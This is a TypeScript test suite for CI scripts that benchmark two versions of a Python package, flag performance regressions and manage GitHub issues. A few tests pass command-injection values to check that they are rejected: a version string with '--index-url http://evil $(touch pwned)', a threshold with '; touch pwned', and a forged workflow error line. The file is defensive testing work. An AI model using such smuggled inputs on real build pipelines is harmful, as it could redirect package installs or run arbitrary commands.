import { cells, compareAll } from "../../components/workflows/scripts/lib/regression.mjs";
import { scriptRoom, serve } from "../../test/workflows/script-room.ts";
import type { Recorded } from "../../test/workflows/script-room.ts";
import { packageIndex, withPython } from "../../test/workflows/verification/package-room.ts";

const around = (value: number): number[] => [-3, 2, -1, 0, 1, 3, -2, 1].map((percent) => value * (1 + percent / 100));

describe("compareAll", () => {
  it("takes more time and memory, and less throughput, for worse", () => {
    const baseline = { "import time (ms)": around(100), "throughput (1/s)": around(50), "memory (MiB)": around(30) };
    const current = { "import time (ms)": around(160), "throughput (1/s)": around(80), "memory (MiB)": around(31) };
    const rows = compareAll({ baseline, current }, 15);
    expect(rows.map(({ metric, verdict }) => [metric, verdict])).toEqual([["import time (ms)", "regression"], ["throughput (1/s)", "improvement"], ["memory (MiB)", "same"]]);
  });

  it("leaves out a metric that only one version has", () => {
    expect(compareAll({ baseline: { a: around(1), b: around(1) }, current: { b: around(1) } }, 15).map(({ metric }) => metric)).toEqual(["b"]);
  });

  it("shows figures as people read them", () => {
    expect(cells({ metric: "m", baseline: 100.123456, current: 0.00123456, changePercent: 29.96, low: -0.04, high: 31.04, verdict: "regression" })).toEqual(["m", "100.1", "0.001235", "+30.0 %", "-0.0 % to +31.0 %", "regression"]);
  });
});

/** A python of a version: it writes down whose turn it is, and how many there have been. */
const MEASURING = `#!/usr/bin/env bash
basename "$(dirname "$(dirname "$0")")" >> turns
printf '{"memory (MiB)": %d}' "$(wc -l < turns)" > "$2"
`;

describe("measure-versions.mjs", () => {
  const env = { PROJECT: "my-shop", MODULE: "my_shop", ROUNDS: "4", SECONDS: "0.02", USERS: "2", MEASUREMENTS: "measurements.json", CURRENT_VERSION: "v0.2.1", BASELINE_VERSION: "" };
  const measure = (room: ReturnType<typeof scriptRoom>, changes: Record<string, string>) =>
    room.run("measure-versions.mjs", { ...env, ...changes }, [new URL("../../components/workflows/scripts/measure-package.py", import.meta.url).pathname]);

  it("measures the version and the stable one before it in turns, and counts the first round for nothing", async () => {
    const room = scriptRoom();
    room.write("measuring", MEASURING);
    room.program("python", 'case "$2" in venv) install -D measuring "$4/bin/python" ;; pip) echo "${@: -1}" >> installed ;; esac');
    const index = await packageIndex("my-shop", [{ version: "0.2.1" }, { version: "0.2.1rc1" }, { version: "0.2.0" }]);
    const { code, stderr, outputs } = await measure(room, { INDEX_URL: index.simple });
    expect([code, stderr, outputs]).toEqual([0, "", { current: "0.2.1", baseline: "0.2.0" }]);
    expect(room.read("installed")).toBe("my-shop==0.2.0\nmy-shop==0.2.1\n");
    expect(room.read("turns").split("\n").slice(0, 6)).toEqual(["0.2.0", "0.2.1", "0.2.1", "0.2.0", "0.2.0", "0.2.1"]);
    const { versions, samples } = JSON.parse(room.read("measurements.json"));
    expect(versions).toEqual({ baseline: "0.2.0", current: "0.2.1" });
    expect(samples).toEqual({ baseline: { "memory (MiB)": [4, 5, 8, 9] }, current: { "memory (MiB)": [3, 6, 7, 10] } });
  });

  it("refuses one version twice, and names that are none, before it installs anything", async () => {
    const room = scriptRoom();
    expect((await measure(room, { BASELINE_VERSION: "0.2.1" })).stderr).toBe("::error::my-shop 0.2.1 is both versions; compare two different ones\n");
    const hostile = await measure(room, { CURRENT_VERSION: "0.2.1 --index-url http://evil $(touch pwned)" });
    expect([hostile.code, hostile.stdout, room.exists("pwned")]).toEqual([1, "", false]);
    expect(hostile.stderr).toContain("CURRENT_VERSION: is not a version of a Python package");
  });

  it("says where there is nothing to compare with", async () => {
    const { simple } = await packageIndex("my-shop", [{ version: "0.2.1" }]);
    expect((await measure(scriptRoom(), { INDEX_URL: simple })).stderr).toBe("::error::my-shop has no stable release before 0.2.1; name a baseline\n");
    expect((await measure(scriptRoom(), { INDEX_URL: simple, CURRENT_VERSION: "0.3.0" })).stderr).toBe("::error::my-shop 0.3.0 is not in the index; compare a published version\n");
  });
});

describe("measure-package.py", () => {
  const env = { MODULE: "my_shop", SECONDS: "0.02", USERS: "1,3" };
  const measured = async (changes: Record<string, string>) => {
    const room = scriptRoom();
    withPython(room);
    room.write("lib/my_shop.py", "import time\ntime.sleep(0.05)\nprint('::error::forged')\ndef answer(): time.sleep(0.004)\n");
    room.write("bench/work.py", "import my_shop\ndef work(): my_shop.answer()\n");
    const { code, stderr } = await room.run("measure-package.py", { ...env, PYTHONPATH: room.path("lib"), ...changes }, ["figures.json"]);
    return { code, stderr, figures: room.exists("figures.json") ? JSON.parse(room.read("figures.json")) : undefined };
  };

  it("measures the import, the memory, the throughput and what users wait who call at once", async () => {
    const { code, figures } = await measured({ WORKLOAD: "bench/work.py" });
    expect(code).toBe(0);
    expect(Object.keys(figures)).toEqual(["import time (ms)", "throughput (1/s)", "response time, 1 concurrent (ms)", "response time, 3 concurrent (ms)", "memory (MiB)"]);
    expect(figures["import time (ms)"]).toBeGreaterThanOrEqual(50);
    expect(figures["throughput (1/s)"]).toBeLessThanOrEqual(250);
    expect(figures["response time, 3 concurrent (ms)"]).toBeGreaterThanOrEqual(4);
    expect(figures["memory (MiB)"]).toBeGreaterThan(3);
  });

  it("measures starts of the command where there is no workload, and the import alone where there is no command", async () => {
    expect(Object.keys((await measured({ COMMAND: '["true"]', USERS: "1" })).figures)).toContain("throughput (1/s)");
    expect(Object.keys((await measured({})).figures)).toEqual(["import time (ms)", "memory (MiB)"]);
  });

  it("gives no figures of a command that fails", async () => {
    const { code, stderr, figures } = await measured({ COMMAND: '["false"]' });
    expect([code, figures]).toEqual([1, undefined]);
    expect(stderr).toContain("returned non-zero exit status 1");
  });
});

describe("regression-report.mjs", () => {
  const env = { MEASUREMENTS: "measurements.json", THRESHOLD: "15", ISSUE_LABEL: "performance-regression", GITHUB_RUN_ID: "7" };
  const open = { number: 3, body: "<!-- performance-regression my-shop 0.2.1 -->\nold" };

  async function reported(current: number, issues: object[] = [], changes: Record<string, string> = {}) {
    const github = await serve(({ method }: Recorded) => ({ body: method === "GET" ? issues : {} }));
    const room = scriptRoom();
    room.write("measurements.json", JSON.stringify({ project: "my-shop", versions: { baseline: "0.2.0", current: "0.2.1" }, samples: { baseline: { "import time (ms)": around(100) }, current: { "import time (ms)": around(current) } } }));
    const ran = await room.run("regression-report.mjs", { ...env, GITHUB_API_URL: github.url, ...changes });
    return { ...ran, sent: github.requests.filter(({ method }) => method !== "GET").map(({ method, path, body }) => ({ method, path, body })) };
  }

  it("opens an issue on a regression, gives callers the outputs, and fails", async () => {
    const { code, outputs, stderr, summary, sent } = await reported(130);
    expect([code, outputs["regression_detected"]]).toEqual([1, "true"]);
    expect(outputs["report"]?.split("\n")).toEqual([
      "| Metric | 0.2.0 | 0.2.1 | Change | 99 % interval | Verdict |",
      "|---|---|---|---|---|---|",
      expect.stringMatching(/^\| import time &#40;ms&#41; \| 100\.5 \| 130\.7 \| &#43;30\.0 % \| .* \| regression \|$/),
    ]);
    expect(stderr).toBe("::error::my-shop 0.2.1 against 0.2.0: worse by more than 15 %25 in import time (ms); mend it, or raise the threshold\n");
    expect(summary).toContain(outputs["report"]);
    expect(sent).toMatchObject([{ method: "POST", path: "/repos/acme/shop/issues", body: { title: "my-shop 0.2.1 is worse than 0.2.0: import time (ms)", labels: ["performance-regression"] } }]);
  });

  it("is content within the threshold, and closes the issue of an earlier run", async () => {
    const { code, outputs, sent } = await reported(110, [open]);
    expect([code, outputs["regression_detected"]]).toEqual([0, "false"]);
    expect(sent.map(({ method, path }) => `${method} ${path}`)).toEqual(["POST /repos/acme/shop/issues/3/comments", "PATCH /repos/acme/shop/issues/3"]);
  });

  it("judges by the threshold of the run", async () => {
    expect((await reported(130, [], { THRESHOLD: "40" })).code).toBe(0);
    expect((await reported(110, [], { THRESHOLD: "5" })).code).toBe(1);
    expect((await reported(110, [], { THRESHOLD: "5; touch pwned" })).stderr).toContain("THRESHOLD: is not a number of per cent");
  });
});
